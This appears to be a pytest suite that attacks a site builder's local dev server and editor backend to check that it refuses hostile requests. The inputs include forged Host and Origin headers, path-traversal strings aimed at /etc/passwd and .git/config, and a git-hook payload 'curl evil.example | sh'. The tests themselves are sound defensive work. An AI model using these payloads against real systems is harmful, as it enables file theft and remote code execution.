"""Issue 14, the local servers attacked as a hostile page or local process would (SECURITY.md, "The
browser editor" and "The dev server"): through `build.py serve --admin --drafts` itself, on a
free port, in a copy laid out like a repository (build.py, .git/config and a hook beside
content/). Every test asserts the outcome: the status, no secret or draft in any body, the files
outside content/ byte for byte unchanged, no process left running."""
from __future__ import annotations

import asyncio
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import NOW, ROOT, copy_fixture
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.local_backend import API_PATH, LocalBackend, Refused

DRAFT = "Acme has a secret customer."           # the fixture's draft claim, shown under --drafts
SECRET = "url = https://token:s3cr3t@example.com/newsroom.git"
ADMIN_SETTING = "\nadmin:\n  backend: git-gateway\n  branch: main\n"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def repository(base: Path) -> Path:
    """A checkout's shape: content/ (with admin: on), and beside it the code and .git a page
    must never read or rewrite."""
    content = copy_fixture(base)
    with (content / "site.yaml").open("a", encoding="utf-8") as site:
        site.write(ADMIN_SETTING)
    (base / "build.py").write_text("print('the real build')\n", "utf-8")
    (base / ".git" / "hooks").mkdir(parents=True)
    (base / ".git" / "config").write_text(f"[remote \"origin\"]\n\t{SECRET}\n", "utf-8")
    (base / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n", "utf-8")
    (base / "overrides" / "static").mkdir(parents=True)
    return content


@pytest.fixture
def symlinks(server):
    """Symlinks a pull request can commit inside content/: a file and a folder pointing out.
    Only while a test needs them: the build refuses them, and shows its error page meanwhile."""
    content = server.base / "content"
    (content / "claims" / "link.yaml").symlink_to(server.base / ".git" / "config")
    (content / "outside").symlink_to(server.base)
    yield content
    (content / "claims" / "link.yaml").unlink()
    (content / "outside").unlink()


def outside_files(base: Path) -> dict[str, bytes]:
    files = {p.relative_to(base).as_posix(): p.read_bytes()
             for p in base.rglob("*") if p.is_file() and not p.is_symlink()
             and p.relative_to(base).parts[0] not in ("content", "_site", "log")}
    files["engine build.py"] = (ROOT / "build.py").read_bytes()
    return files


class DevServer:
    address = "127.0.0.1"   # where the test connects; the Host header is set separately

    def __init__(self, base: Path, *flags: str):
        self.base, self.port = base, free_port()
        self.log = (base / "log").open("wb")
        self.process = subprocess.Popen(
            [sys.executable, str(ROOT / "build.py"), "serve", "--content", str(base / "content"),
             "--out", str(base / "_site"), "--port", str(self.port), "--now", NOW,
             "--overrides", str(base / "overrides"), *flags],
            cwd=base, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)
        self.host = f"{self.address}:{self.port}"
        self.origin = f"http://{self.host}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            assert self.process.poll() is None, self.output()
            try:
                if self.request("GET", "/")[0] in (200, 302):
                    return
            except OSError:
                time.sleep(0.05)
        raise AssertionError("the dev server did not start: " + self.output())

    def request(self, method: str, path: str, host: str | None = None, body: bytes | None = None,
                headers: dict | None = None) -> tuple[int, str]:
        connection = http.client.HTTPConnection(self.address, self.port, timeout=10)
        try:
            connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
            connection.putheader("Host", self.host if host is None else host)
            for name, value in (headers or {}).items():
                connection.putheader(name, value)
            if body is not None:
                connection.putheader("Content-Length", str(len(body)))
            connection.endheaders(body)
            response = connection.getresponse()
            return response.status, response.read().decode("utf-8", errors="replace")
        finally:
            connection.close()

    def api(self, action: str, params: dict, origin: str | None = None, host: str | None = None):
        headers = {"Content-Type": "application/json"}
        if origin != "":
            headers["Origin"] = origin or self.origin
        status, text = self.request("POST", API_PATH, host=host, headers=headers,
                                    body=json.dumps({"action": action, "params": params}).encode())
        return status, text

    def output(self) -> str:
        return (self.base / "log").read_text("utf-8", errors="replace")

    def stop(self) -> None:
        if self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait(timeout=10)
        self.log.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    base = tmp_path_factory.mktemp("repository")
    repository(base)
    running = DevServer(base, "--admin", "--drafts")
    yield running
    running.stop()
    assert "Traceback" not in running.output()


# --- the dev server -----------------------------------------------------------------------------

def test_the_dev_server_answers_only_its_own_host_and_shows_no_draft_to_others(server):
    page = "/claims/draft-claim/"
    for host in (server.host, f"localhost:{server.port}", f"LOCALHOST:{server.port}",
                 f"[::1]:{server.port}"):
        status, body = server.request("GET", page, host=host)
        assert status == 200 and DRAFT in body, host   # --drafts shows it to its own pages
    for host in (f"evil.example:{server.port}", "evil.example", "127.0.0.1", f"127.0.0.1:{server.port + 1}",
                 f"127.0.0.1.evil.example:{server.port}", f"0.0.0.0:{server.port}", ""):
        for path in (page, "/", "/livereload.js", "/admin/config.yml", "/search/", "/forcereload"):
            status, body = server.request("GET", path, host=host)
            assert status == 421, (host, path, status)
            assert DRAFT not in body and "livereload" not in body.lower() and "<html" not in body
    # the editor's backend is behind the same check, whatever the Origin says
    status, body = server.api("getEntry", {"path": "content/claims/draft-claim.yaml"},
                              host=f"evil.example:{server.port}", origin=f"http://evil.example:{server.port}")
    assert status == 421 and "secret customer" not in body


def _handshake(server, origin: str, host: str | None = None) -> int:
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as connection:
        connection.sendall((f"GET /livereload HTTP/1.1\r\nHost: {host or server.host}\r\n"
                            "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                            f"Sec-WebSocket-Version: 13\r\nOrigin: {origin}\r\n\r\n").encode())
        return int(connection.recv(4096).split(b" ", 2)[1])


def test_live_reload_accepts_only_its_own_origin(server):
    assert _handshake(server, server.origin) == 101
    assert _handshake(server, f"http://localhost:{server.port}") == 101
    for origin in ("http://evil.example", f"http://evil.example:{server.port}", "null",
                   f"http://localhost.evil.example:{server.port}", f"http://127.0.0.1:{server.port + 1}"):
        assert _handshake(server, origin) == 403, origin
    assert _handshake(server, "http://evil.example", host=f"evil.example:{server.port}") == 421


@pytest.mark.long
def test_live_reload_tells_pages_site_urls_never_local_paths(server):
    from tornado.httpclient import HTTPRequest
    from tornado.websocket import websocket_connect

    seen = []

    async def reload_after(connection, edit, path: str) -> None:
        await asyncio.sleep(3.5)   # livereload ignores changes within 3 s of the last reload
        edit()
        while True:
            message = await asyncio.wait_for(connection.read_message(), timeout=30)
            seen.append(message)
            if json.loads(message).get("path") == path:
                return

    async def watch() -> None:
        request = HTTPRequest(f"ws://{server.host}/livereload", headers={"Origin": server.origin})
        connection = await websocket_connect(request)
        await connection.write_message(json.dumps({"command": "hello"}))
        await connection.write_message(json.dumps({"command": "info", "url": server.origin + "/"}))
        claim = server.base / "content" / "claims" / "valuation.yaml"
        css = server.base / "overrides" / "static" / "style.css"
        await reload_after(connection, lambda: claim.write_text(
            claim.read_text("utf-8").replace("about $50m", "about $52m"), "utf-8"), "*")
        # a lone stylesheet edit: its site URL, which livereload.js reloads in place
        await reload_after(connection, lambda: css.write_text("body { color: #123456; }"),
                           "/static/style.css")
        connection.close()

    asyncio.run(watch())
    assert len(seen) >= 2
    for message in seen:
        assert str(server.base) not in message and str(ROOT) not in message
        assert "/tmp" not in message and "overrides" not in message


@pytest.mark.parametrize("path", [
    "/%00", "/claims/%00/", "/claims/valuation/%00index.html", "/%ff", "/%c0%ae%c0%ae/",
    "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/../../../etc/passwd",
    "/%5c..%5c..%5cetc%5cpasswd", "/%252e%252e/%252e%252e/etc/passwd", "/%1b[31m", "/%",
    "/%zz", "/" + "a" * 300, "/" + "a/" * 3000, "/claims/" + "%2e%2e/" * 50 + "etc/passwd"])
def test_a_malformed_url_is_a_400_or_404_never_a_traceback(server, path):
    status, body = server.request("GET", path)
    assert status in (400, 404), (path, status)
    assert "Traceback" not in body and "root:" not in body and SECRET not in body
    assert server.request("GET", "/claims/valuation/")[0] == 200   # still serving
    assert "Traceback" not in server.output()


# --- serve --host: a phone on the same network (issue 15) ---------------------------------------

class NetworkServer(DevServer):
    address = "127.0.0.2"   # on Linux the whole of 127/8 is this machine: a stand-in for a LAN address


def test_serve_host_answers_the_bound_address_warns_and_refuses_other_hosts(tmp_path):
    repository(tmp_path)
    running = NetworkServer(tmp_path, "--host", "127.0.0.2", "--drafts")
    try:
        status, body = running.request("GET", "/claims/draft-claim/")   # Host: 127.0.0.2:port
        assert status == 200 and DRAFT in body
        for host in (f"127.0.0.1:{running.port}", "127.0.0.2", f"evil.example:{running.port}",
                     f"127.0.0.2:{running.port + 1}"):
            status, body = running.request("GET", "/claims/draft-claim/", host=host)
            assert status == 421 and DRAFT not in body, host
        assert running.api("entriesByFolder", {"folder": "content/claims"})[0] == 404
        with pytest.raises(OSError):   # the loopback address is not listened on
            socket.create_connection(("127.0.0.1", running.port), timeout=5).close()
        log = running.output()
        assert f"Serving on http://127.0.0.2:{running.port}/" in log
        assert (f"Warning: every device on this network can read the site, drafts and embargoed "
                f"items included, at http://127.0.0.2:{running.port}.") in log
    finally:
        running.stop()


def test_serve_host_with_admin_is_refused_and_starts_nothing(tmp_path):
    repository(tmp_path)
    port = free_port()
    result = subprocess.run(
        [sys.executable, str(ROOT / "build.py"), "serve", "--content", str(tmp_path / "content"),
         "--out", str(tmp_path / "_site"), "--port", str(port), "--host", "0.0.0.0", "--admin"],
        cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == (
        "build.py serve: --host and --admin cannot be used together: the editor's backend writes "
        "to the content folder and must never be reachable from the network. Preview on the "
        "phone with --host alone, and edit with --admin on this machine.\n")
    assert not (tmp_path / "_site").exists()


def test_allowed_hosts_for_every_address_never_any_host(monkeypatch):
    from engine import serve
    assert not {"0.0.0.0", "::", ""} & serve.own_addresses()
    monkeypatch.setattr(serve, "own_addresses", lambda: {"192.168.1.20", "fd00::2"})
    assert serve.allowed_hosts("192.168.1.20", 8000) == {"192.168.1.20:8000"}
    assert serve.allowed_hosts("fd00::2", 8000) == {"[fd00::2]:8000"}
    assert serve.allowed_hosts("0.0.0.0", 8000) == {
        "127.0.0.1:8000", "localhost:8000", "[::1]:8000", "192.168.1.20:8000", "[fd00::2]:8000"}
    assert serve.allowed_hosts("::", 8000) == serve.allowed_hosts("0.0.0.0", 8000)
    assert "0.0.0.0:8000" not in serve.allowed_hosts("0.0.0.0", 8000)


# --- the browser editor's backend ---------------------------------------------------------------

def test_the_editors_backend_reads_nothing_outside_content(server, symlinks):
    base = server.base
    reads = [("getEntry", {"path": p}) for p in (
        "content/../.git/config", "../.git/config", ".git/config", str(base / ".git" / "config"),
        "content/./../.git/config", "content//../.git/config", "content/claims/../../.git/config",
        "content\\..\\.git\\config", "content/claims/link.yaml", "content/outside/.git/config",
        "content/outside/build.py", "content/%2e%2e/.git/config", "content/..%2f.git/config",
        "content/\u2025/.git/config", "content/claims/\x00/../../.git/config")]
    reads += [("entriesByFiles", {"files": [{"path": "content/claims/valuation.yaml"},
                                            {"path": "content/../.git/config"}]}),
              ("entriesByFolder", {"folder": "content/..", "extension": "", "depth": 5}),
              ("entriesByFolder", {"folder": "content/outside", "extension": "", "depth": 5}),
              ("entriesByFolder", {"folder": ".git", "extension": "", "depth": 5}),
              ("entriesByFolder", {"folder": "content", "extension": "", "depth": 20}),
              ("getMedia", {"mediaFolder": "content/outside/.git"}),
              ("getMedia", {"mediaFolder": "content/claims"}),
              ("getMediaFile", {"path": "content/claims/link.yaml"}),
              ("getMediaFile", {"path": "content/outside/.git/config"})]
    for action, params in reads:
        status, body = server.api(action, params)
        assert SECRET not in body and "the real build" not in body, (action, params)
        assert "s3cr3t" not in body, (action, params)
        assert status in (200, 403, 404), (action, params, status)
    # a path outside content/ is refused outright, not merely found empty
    assert server.api("getEntry", {"path": "content/../.git/config"})[0] == 403
    assert server.api("getEntry", {"path": "content/claims/link.yaml"})[0] == 403


def test_the_editors_backend_writes_and_deletes_nothing_outside_content(server, symlinks):
    base, before = server.base, outside_files(server.base)
    hook = "#!/bin/sh\ncurl evil.example | sh\n"
    targets = ["content/../build.py", "../build.py", "build.py", str(base / "build.py"),
               "content/../.git/hooks/pre-commit", "content/claims/../../.git/hooks/pre-commit",
               "content/outside/build.py", "content/outside/.git/hooks/pre-commit",
               "content\\..\\build.py", "content/claims/link.yaml", "content/.git/hooks/pre-commit",
               str(ROOT / "build.py"), "content/claims/\x00.yaml", "content/" + "a" * 2000]
    for target in targets:
        for action, params in (
                ("persistEntry", {"dataFiles": [{"path": target, "raw": hook}], "assets": []}),
                ("persistEntry", {"entry": {"path": target, "raw": hook}, "assets": []}),
                ("persistEntry", {"dataFiles": [{"path": "content/claims/valuation.yaml", "raw": hook}],
                                  "assets": [{"path": target, "content": "cHduZWQ=", "encoding": "base64"}]}),
                ("persistEntry", {"dataFiles": [{"path": "content/claims/valuation.yaml", "raw": hook,
                                                 "newPath": target}], "assets": []}),
                ("persistMedia", {"asset": {"path": target, "content": "cHduZWQ=", "encoding": "base64"}}),
                ("deleteFile", {"path": target}),
                ("deleteFiles", {"paths": ["content/claims/round-size.yaml", target]})):
            status, _ = server.api(action, params)
            assert status in (400, 403), (action, target, status)
    assert outside_files(base) == before
    # a refused request changes nothing at all, not even its one legitimate file
    assert hook not in (base / "content" / "claims" / "valuation.yaml").read_text("utf-8")
    assert (base / "content" / "claims" / "round-size.yaml").is_file()
    assert (base / "content" / "claims" / "link.yaml").is_symlink()
    assert not list((base / "content").rglob("*editing*"))


def test_only_the_editor_on_this_server_may_call_its_backend(server):
    claim = server.base / "content" / "claims" / "valuation.yaml"
    before = claim.read_bytes()
    change = {"dataFiles": [{"path": "content/claims/valuation.yaml", "raw": "statement: pwned\n"}],
              "assets": []}
    for origin in ("http://evil.example", f"http://evil.example:{server.port}", "null", "",
                   f"http://127.0.0.1:{server.port + 1}", f"https://127.0.0.1:{server.port}"):
        status, body = server.api("persistEntry", change, origin=origin)
        assert status == 403, origin
        status, body = server.api("getEntry", {"path": "content/claims/draft-claim.yaml"}, origin=origin)
        assert status == 403 and "secret customer" not in body, origin
    assert server.request("GET", API_PATH)[0] == 403   # a link or an <img> is no POST
    assert claim.read_bytes() == before


def test_an_edit_through_the_editors_backend_is_saved_and_rebuilt(server):
    claim = "content/claims/valuation.yaml"
    status, body = server.api("getEntry", {"path": claim})
    assert status == 200
    entry = json.loads(body)
    assert entry["file"]["path"] == claim and "about $5" in entry["data"]
    raw = entry["data"].replace("The round valued Acme at", "The round priced Acme at")
    assert server.api("persistEntry", {"dataFiles": [{"path": claim, "raw": raw}], "assets": []})[0] == 200
    assert (server.base / claim).read_text("utf-8") == raw
    listed = json.loads(server.api("entriesByFolder", {"folder": "content/claims", "extension": "yaml",
                                                       "depth": 1})[1])
    assert claim in [e["file"]["path"] for e in listed]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        status, html = server.request("GET", "/claims/valuation/")
        if "priced Acme" in html:
            break
        time.sleep(0.3)
    assert "The round priced Acme at" in html
    # the media folder Decap's config names, inside content/ (the build has no use for it yet)
    image = {"path": "content/media/chart.png", "content": "iVBORw0KGgo=", "encoding": "base64"}
    status, body = server.api("persistMedia", {"asset": image})
    assert status == 200 and json.loads(body)["path"] == image["path"]
    assert (server.base / image["path"]).read_bytes() == b"\x89PNG\r\n\x1a\n"
    assert [m["path"] for m in json.loads(server.api("getMedia", {"mediaFolder": "content/media"})[1])] \
        == [image["path"]]
    assert server.api("deleteFile", {"path": image["path"]})[0] == 200
    assert not (server.base / image["path"]).exists()
    (server.base / "content" / "media").rmdir()


def test_without_admin_there_is_no_backend(tmp_path):
    repository(tmp_path)
    running = DevServer(tmp_path)
    try:
        status, body = running.api("getEntry", {"path": "content/claims/valuation.yaml"})
        assert status == 404 and "about $50m" not in body
    finally:
        running.stop()


def _session(sid: int) -> list[int]:
    """Processes still in the dev server's session: it, and anything it started."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[3]) == sid and fields[0] != "Z":
                found.append(int(entry.name))
    return found


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_serve_admin_stops_with_everything_it_started_on_each_signal(tmp_path, number):
    repository(tmp_path)
    running = DevServer(tmp_path, "--admin")
    try:
        assert running.api("info", {})[0] == 200   # the editor's backend is up
        os.kill(running.process.pid, number)
        # exit status 0: stopped the way Ctrl+C does, its cleanup run, not killed midway
        assert running.process.wait(timeout=20) == 0
        deadline = time.monotonic() + 10
        while _session(running.process.pid) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _session(running.process.pid) == []
        with pytest.raises(OSError):
            running.request("POST", API_PATH, body=b"{}")
        assert "Traceback" not in running.output()
    finally:
        running.stop()


# --- the path check itself, on generated names --------------------------------------------------

NAMES = st.lists(st.sampled_from(["content", "claims", "..", ".", "", ".git", "config", "a\\..",
                                  "%2e%2e", "\x00", "outside", "link.yaml", "/", "~", "media"]),
                 min_size=1, max_size=6).map("/".join)


@settings(max_examples=300, deadline=None)
@given(name=NAMES)
def test_any_path_the_backend_accepts_is_inside_content_and_through_no_symlink(tmp_path_factory, name):
    base = tmp_path_factory.mktemp("names")
    content = base / "content"
    (content / "claims").mkdir(parents=True)
    (content / "claims" / "link.yaml").symlink_to(base)
    (content / "outside").symlink_to(base)
    try:
        target = LocalBackend(content, "content").inside(name)
    except Refused:
        return
    assert target.resolve().is_relative_to(content.resolve())
    walked = content
    for part in target.relative_to(content).parts:
        walked = walked / part
        assert not walked.is_symlink()
